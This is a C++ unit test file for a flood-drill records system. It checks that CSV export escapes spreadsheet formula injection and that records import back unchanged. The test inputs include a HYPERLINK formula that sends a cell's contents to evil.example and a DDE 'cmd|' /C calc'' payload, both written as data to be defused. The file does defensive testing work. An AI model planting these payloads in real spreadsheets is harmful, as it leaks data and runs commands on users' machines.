// Exported CSV cells cannot run as spreadsheet formulas, and the exported
// file imports back to the original text (issue 9, item 7).
#include <sstream>

#include "host/service/service_fixture.h"
#include "io/csv_cell_guard.h"
#include "io/csv_exporter.h"
#include "io/csv_importer.h"
#include "io/csv_reader.h"
#include "service/drill_service.h"
#include "store/drill_repository.h"

namespace beacon::testing {
namespace {

TEST(CsvCellGuard, FormulaStartsArePrefixedAndRoundTrip) {
  EXPECT_EQ(io::guardCell("=HYPERLINK(\"http://evil.example\",\"x\")"),
            "'=HYPERLINK(\"http://evil.example\",\"x\")");
  EXPECT_EQ(io::guardCell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(io::guardCell("+1-1"), "'+1-1");
  EXPECT_EQ(io::guardCell("-1+1"), "'-1+1");
  EXPECT_EQ(io::guardCell("\t=1"), "'\t=1");
  EXPECT_EQ(io::guardCell("\r=1"), "'\r=1");
  EXPECT_EQ(io::guardCell("-3"), "-3") << "a negative number stays a number";
  EXPECT_EQ(io::guardCell("-0.5"), "-0.5");
  EXPECT_EQ(io::guardCell("-"), "'-");
  EXPECT_EQ(io::guardCell("'plain"), "'plain")
      << "a leading apostrophe before ordinary text is kept as is";
  EXPECT_EQ(io::guardCell("'=1"), "''=1") << "a real apostrophe before a formula start is escaped";
  EXPECT_EQ(io::guardCell("''"), "'''");
  EXPECT_EQ(io::unguardCell("'plain"), "'plain") << "a hand-written leading apostrophe is data";
  for (const std::string s :
       {"",  "'",  "''",  "'''", "=1",   "'=1",   "''=1", "-",   "-3",  "'-3", "+",
        "@", "\t", "'\t", "a=b", "测试", "'测试", "-1.",  "--1", "-.5", "1-"}) {
    EXPECT_EQ(io::unguardCell(io::guardCell(s)), s) << s;
    const std::string g = io::guardCell(s);
    if (!g.empty() && g != "-3") {
      EXPECT_TRUE(g[0] != '=' && g[0] != '+' && g[0] != '@' && g[0] != '\t' && g[0] != '\r') << s;
    }
  }
}

class CsvFormulaExportTest : public ServiceFixture {
 protected:
  sdk::Drill drill(const std::string& place, const std::string& scenario,
                   const std::string& findings) {
    sdk::Drill d;
    d.domain = "flood";
    d.drill_type = "flood.evacuation";
    d.org_id = village_;
    d.date = sdk::Date{2023, 6, 10};
    d.participants = 40;
    d.evacuees = 35;
    d.fields = {{"hazard", "山洪"}};
    d.place = place;
    d.scenario = scenario;
    d.findings = findings;
    return d;
  }

  std::string exportText(store::Database& db, const std::string& kind) {
    std::ostringstream out;
    EXPECT_TRUE(io::exportCsv(db, registry_, kind, out, false).isOk());
    return out.str();
  }
};

TEST_F(CsvFormulaExportTest, ExportedCellsDoNotStartFormulasAndImportBack) {
  service::DrillService drills(*db_, registry_);
  const std::vector<std::array<std::string, 3>> texts = {
      {"=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1"},
      {"-2+3", "'=1+1", "'引号开头"},
      {"''", "=", "第一行\n=第二行"}};
  for (const auto& t : texts) {
    auto r = drills.log(drill(t[0], t[1], t[2]), actor_);
    ASSERT_TRUE(r.isOk()) << r.status().describe();
  }
  const std::string csv = exportText(*db_, "drills");

  std::istringstream in(csv.substr(3));
  io::CsvReader reader(in);
  io::CsvRecord rec;
  ASSERT_TRUE(reader.next(rec));  // header
  int rows = 0;
  while (reader.next(rec)) {
    ++rows;
    for (const auto& cell : rec.fields) {
      ASSERT_FALSE(!cell.empty() &&
                   (cell[0] == '=' || cell[0] == '+' || cell[0] == '@' || cell[0] == '\t' ||
                    cell[0] == '\r' || (cell[0] == '-' && cell != "-3")))
          << "line " << rec.line << " has a formula cell: " << cell;
    }
  }
  EXPECT_EQ(rows, 3);

  // Into an empty database: organisations, plans, then the drills file.
  Poco::File(dir_ + "/copy").createDirectories();
  store::Database other(dir_ + "/copy/beacon.db");
  other.migrate();
  for (const std::string kind : {"organisations", "plans", "drills"}) {
    io::ImportOptions o;
    o.kind = kind;
    const std::string text = kind == "drills" ? csv : exportText(*db_, kind);
    auto r = io::importFile(other, registry_, writeFile(kind + ".csv", text), o, actor_);
    ASSERT_TRUE(r.isOk()) << r.status().describe();
    ASSERT_TRUE(r.value().errors.empty()) << kind << ": " << r.value().errors.front();
  }
  store::DrillFilter f;
  f.newest_first = false;
  const auto back = store::DrillRepository(other.session()).list(f);
  ASSERT_EQ(back.size(), texts.size());
  for (std::size_t i = 0; i < texts.size(); ++i) {
    EXPECT_EQ(back[i].place, texts[i][0]);
    EXPECT_EQ(back[i].scenario, texts[i][1]);
    EXPECT_EQ(back[i].findings, texts[i][2]);
  }
  EXPECT_EQ(exportText(other, "drills"), csv);
}

TEST_F(CsvFormulaExportTest, NegativeNumbersAndHandWrittenApostrophesImportUnchanged) {
  const std::string path =
      writeFile("hand.csv",
                "组织编码,领域,演练类型,演练日期,参演人数,转移人数,灾害类型,地点,预警级别\r\n"
                "V1,flood,flood.evacuation,2023-07-01,20,10,山洪,'村委会,-3\r\n");
  io::ImportOptions o;
  o.kind = "drills";
  auto r = io::importFile(*db_, registry_, path, o, actor_);
  ASSERT_TRUE(r.isOk()) << r.status().describe();
  ASSERT_EQ(r.value().errors.size(), 1u) << "the negative warning level reaches the range check";
  EXPECT_NE(r.value().errors[0].find("第2行，“预警级别”列："), std::string::npos)
      << r.value().errors[0];

  const std::string ok =
      writeFile("hand-ok.csv",
                "组织编码,领域,演练类型,演练日期,参演人数,转移人数,灾害类型,地点\r\n"
                "V1,flood,flood.evacuation,2023-07-01,20,10,山洪,'村委会\r\n");
  r = io::importFile(*db_, registry_, ok, o, actor_);
  ASSERT_TRUE(r.isOk()) << r.status().describe();
  ASSERT_TRUE(r.value().errors.empty()) << r.value().errors.front();
  store::DrillFilter f;
  const auto back = store::DrillRepository(db_->session()).list(f);
  ASSERT_EQ(back.size(), 1u);
  EXPECT_EQ(back[0].place, "'村委会");
}

}  // namespace
}  // namespace beacon::testing
